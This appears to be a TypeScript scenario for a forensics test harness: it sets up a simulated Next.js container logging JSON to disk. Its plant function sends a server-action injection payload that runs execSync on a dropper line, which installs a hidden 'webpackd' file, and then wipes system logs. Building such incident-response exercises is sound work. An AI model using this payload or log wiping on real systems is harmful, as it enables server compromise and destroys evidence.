// dockerd keeps what a container prints as lines of JSON; there is no proxy in front, and the system's logs are gone.
import type { Dress } from '../../dress.ts'
import { dropper } from '../../dropper.ts'
import { noJournal } from '../../long-ago.ts'
import { ordinary } from '../../past.ts'
import type { Stage } from '../../stage.ts'
import { wipe } from '../../wiping.ts'

const id = '9c41'.repeat(16)
const kept = `/var/lib/docker/containers/${id}`

export function dress(dress: Dress): void {
  dress.logins(ordinary)
  noJournal(dress)
  dress.toy({
    unit: 'shop',
    user: 'root',
    exe: '/usr/bin/node',
    title: 'next-server (v15.1.6)',
    home: '/app',
    play: 'next',
    env: { PRINTS: 'yes' },
  })
  dress.write(
    '/usr/lib/driver.ts',
    `import { appendFileSync } from 'node:fs'
import { createInterface } from 'node:readline'
createInterface({ input: process.stdin }).on('line', log =>
  appendFileSync('${kept}/${id}-json.log', JSON.stringify({ log: log + '\\n', stream: 'stderr', time: new Date().toISOString().replace('Z', '000000Z') }) + '\\n'))
`,
  )
  dress.write(
    `${kept}/config.v2.json`,
    JSON.stringify({
      ID: id,
      Name: '/shop',
      Path: 'node',
      Args: ['server.js'],
      Created: '2026-10-02T08:11:09.101Z',
      Config: { Image: 'registry.example.com/shop:3.2', Cmd: ['node', 'server.js'] },
      State: { Running: true },
    }),
  )
  dress.write(`${kept}/hostconfig.json`, JSON.stringify({ Binds: [], PortBindings: { '3000/tcp': [{ HostPort: '3000' }] } }))
  dress.write(
    '/etc/systemd/system/shop.service.d/container.conf',
    `[Service]\nExecStart=\nExecStart=/bin/sh -c 'systemd-run --scope --quiet --unit=docker-${id} -- /usr/bin/node --disable-warning=ExperimentalWarning /app/server.ts 2>&1 | /usr/bin/node --disable-warning=ExperimentalWarning /usr/lib/driver.ts'\n`,
  )
}

export async function plant(stage: Stage): Promise<void> {
  const line = dropper(stage, { path: '/app/.next/cache/.w/webpackd', cron: false })
  await stage.http('198.51.100.20', ':3000/')
  await stage.http('203.0.113.57', ':3000/login')
  stage.mark('occurrence')
  await stage.http(
    '203.0.113.57',
    ':3000/',
    `{"_response":{"_prefix":"process.mainModule.require('child_process').execSync('${line}');"}}`,
    {
      'Next-Action': 'x',
    },
  )
  await wipe(stage, ['auth', 'syslog', 'cron', 'logins'])
}
